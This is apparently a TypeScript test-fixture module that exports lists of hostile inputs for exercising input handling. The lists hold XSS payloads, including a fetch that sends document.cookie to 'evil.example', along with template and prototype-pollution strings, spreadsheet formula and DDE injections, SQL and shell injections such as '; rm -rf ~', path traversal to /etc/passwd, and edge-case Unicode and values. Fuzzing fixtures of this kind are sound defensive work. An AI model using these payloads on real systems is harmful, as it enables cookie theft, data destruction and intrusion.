/**
 * What somebody might type, or send, who means no good: for every field, file and wire alike. By pattern, so that a
 * new idea is one line.
 */
const DEEDS = ['window.harmed=1', 'alert(1)', "fetch('//evil.example/'+document.cookie)"];
const EVENTS = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart'];

const tags = DEEDS.flatMap((deed) => [
  `<script>${deed}</script>`,
  `<ScRiPt >${deed}</sCrIpT>`,
  `</title><script>${deed}</script>`,
  `</textarea><script>${deed}</script>`,
  `<iframe srcdoc="<script>parent.${deed}</script>"></iframe>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg/onload=${deed}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
  `<details open ontoggle=${deed}>`,
  `<object data="javascript:${deed}"></object>`,
  `<a href="javascript:${deed}">hier</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${deed}">`,
  `<form action="javascript:${deed}"><button>ja</button></form>`,
  `<base href="//evil.example/"><script src="x.js"></script>`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<template><script>${deed}</script></template>`,
  `<!--><script>${deed}</script>-->`,
  `<![CDATA[<script>${deed}</script>]]>`,
]);
const attributes = EVENTS.flatMap((event) => [
  `" ${event}="window.harmed=1`,
  `' ${event}='window.harmed=1`,
  `<img src=x ${event}=window.harmed=1>`,
  `<b tabindex=1 autofocus ${event}=window.harmed=1>vet</b>`,
]);
const urls = [
  'javascript:window.harmed=1',
  'JaVaScRiPt:window.harmed=1',
  'java\tscript:window.harmed=1',
  '\u0001javascript:window.harmed=1',
  'data:text/html,<script>parent.harmed=1</script>',
  'vbscript:msgbox(1)',
  '//evil.example/%2e%2e',
  'https://trainer.example@evil.example/',
  'file:///etc/passwd',
];
const entities = [
  '&lt;script&gt;window.harmed=1&lt;/script&gt;',
  '&#60;script&#62;window.harmed=1&#60;/script&#62;',
  '&#x3c;img src=x onerror=window.harmed=1&#x3e;',
  '\\u003cscript\\u003ewindow.harmed=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.harmed=1%3C/script%3E',
  '＜script＞window.harmed=1＜/script＞',
];
const templates = [
  '{{constructor.constructor("window.harmed=1")()}}',
  '${window.harmed=1}',
  '#{window.harmed=1}',
  '<%= window.harmed=1 %>',
  '{% raw %}{{7*7}}',
  '`${window.harmed=1}`',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
];
/** What a spreadsheet would run, and what a reader of such a file would trip over. */
const formulas = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example","klik")',
  '=cmd|"/c calc"!A1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '"=1+1',
  ';=1+1',
  '＝1+1',
  'DDE("cmd";"/C calc";"x")',
];
const injected = [
  "'; DROP TABLE events; --",
  '" OR 1=1 --',
  '$(reboot)',
  '; rm -rf ~',
  '../../etc/passwd',
  '%00',
  '\0',
];
const odd = [
  '\u202Eabc\u202D',
  '\u2066\u2067\u2068abc\u2069',
  'a\u200B\u200C\u200D\uFEFFb',
  `Z${'\u0335\u0346\u0321\u0353'.repeat(40)}`,
  '\uD800',
  'a\uDFFFb',
  '\uFFFE\uFFFF',
  '👩‍👩‍👧‍👦'.repeat(10),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'ﷺ'.repeat(20),
  'مرحبا بالعالم',
  'नमस्ते',
  '\u3164\u3164\u3164',
  'İıſK',
  'a\u0000b\u0007c\u001Bd',
  '\r\nSet-Cookie: a=b',
  '\u2028\u2029',
];

/** Texts of a length that a field might take. */
export const hostileTexts: readonly string[] = [
  ...tags,
  ...attributes,
  ...urls,
  ...entities,
  ...templates,
  ...formulas,
  ...injected,
  ...odd,
];

/** Texts that are hostile by their length alone: words without a gap, and with nothing but gaps. */
export const endlessTexts: readonly string[] = [
  'x'.repeat(10_000),
  'W'.repeat(10_000),
  'é'.repeat(10_000),
  '👩‍👩‍👧‍👦'.repeat(900),
  ' '.repeat(10_000),
  'lang woord '.repeat(900),
];

/** Values that are no text at all, each of its own kind. */
export const hostileValues: readonly unknown[] = [
  null,
  undefined,
  true,
  0,
  -0,
  -1,
  0.5,
  1e308,
  2 ** 53,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  10n,
  '',
  [],
  {},
  Object.create(null),
  // An array with nothing but holes.
  Object.assign([], { length: 2 }),
  new Date(0),
  new Map([['type', 'join']]),
  Symbol('join'),
  () => 'join',
  JSON.parse('{"__proto__":{"type":"join"}}'),
  JSON.parse('{"constructor":{"prototype":{"type":"join"}}}'),
  { toString: null, valueOf: null },
  // A length that cannot be compared with anything.
  { length: { toString: 1, valueOf: 1 } },
  ...hostileTexts.slice(0, 10),
];
